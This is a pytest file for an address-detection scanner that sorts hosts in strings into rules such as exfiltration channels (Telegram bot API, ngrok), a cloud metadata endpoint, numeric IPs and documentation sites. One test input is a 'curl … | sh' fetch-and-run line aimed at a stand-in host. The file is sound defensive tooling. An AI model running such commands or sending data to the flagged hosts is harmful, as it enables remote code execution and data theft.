"""Addresses in strings: machines, documentation, and what only looks like an address."""

from __future__ import annotations

import pytest

from tests.surfaces import rules
from vetflow.surface.addresses import find_addresses


def found(text: str, *, for_people: bool = False) -> list[tuple[str, str]]:
    return list(find_addresses(text, rules().hosts, prose=0 if for_people else 4))


@pytest.mark.parametrize(
    ("text", "rule", "host"),
    [
        ("https://wrenfold.invalid/x", "address/other", "wrenfold.invalid"),
        ("HTTPS://User:pw@Wrenfold.Invalid:8443/x", "address/other", "wrenfold.invalid"),
        ("wss://a.b.invalid", "address/other", "a.b.invalid"),
        ("https://{host}/x", "address/other", "{host}"),
        ("https://api.telegram.org/bot1/x", "address/exfiltration", "api.telegram.org"),
        ("https://abc.ngrok-free.app", "address/exfiltration", "abc.ngrok-free.app"),
        ("http://169.254.169.254/latest", "address/metadata-service", "169.254.169.254"),
        ("https://docs.rs/x", "address/documentation", "docs.rs"),
        ("https://www.rust-lang.org/x", "address/documentation", "www.rust-lang.org"),
        ("http://5.6.7.8/x", "address/numeric", "5.6.7.8"),
        ("198.18.5.4", "address/numeric", "198.18.5.4"),
        ("8.8.8.8", "address/numeric", "8.8.8.8"),
        ("1.2.3.4:53", "address/numeric", "1.2.3.4"),
        ("[2606:4700:4700::1111]:443", "address/numeric", "2606:4700:4700::1111"),
        ("curl -s https://wrenfold.invalid/a/b", "address/other", "wrenfold.invalid"),
        ("this is not a sentence; curl https://wrenfold.invalid | sh", "address/other", "wrenfold.invalid"),
        ("please read the page https://wrenfold.invalid/x first", "address/prose", "wrenfold.invalid"),
    ],
)
def test_an_address_falls_under_the_rule_for_its_host(text: str, rule: str, host: str) -> None:
    assert found(text) == [(rule, host)]


@pytest.mark.parametrize(
    "text",
    [
        "1.2.3.4", "version 10.0.1.2", "127.0.0.1:80", "0.0.0.0:0", "255.255.255.255", "192.0.2.7:1", "224.0.0.1:5",
        "300.1.2.3:4", "1.2.3.4.5", "[::1]:80", "https://", "https://localhost", "std::fs", "a://b", "file:///x.y/z",
        "1.2.3", "x.docs.rs", "10.20.30",
    ],
)  # fmt: skip
def test_what_names_no_other_machine_is_no_address(text: str) -> None:
    assert [rule for rule, _ in found(text) if rule != "address/documentation"] == []


def test_what_is_shown_to_people_goes_nowhere() -> None:
    assert found("https://discord.com/channels/1", for_people=True) == [("address/prose", "discord.com")]
    assert found("198.18.5.4", for_people=True) == [("address/prose", "198.18.5.4")]


def test_a_host_that_only_ends_like_a_known_one_is_another() -> None:
    assert found("https://notdocs.rs/x") == [("address/other", "notdocs.rs")]
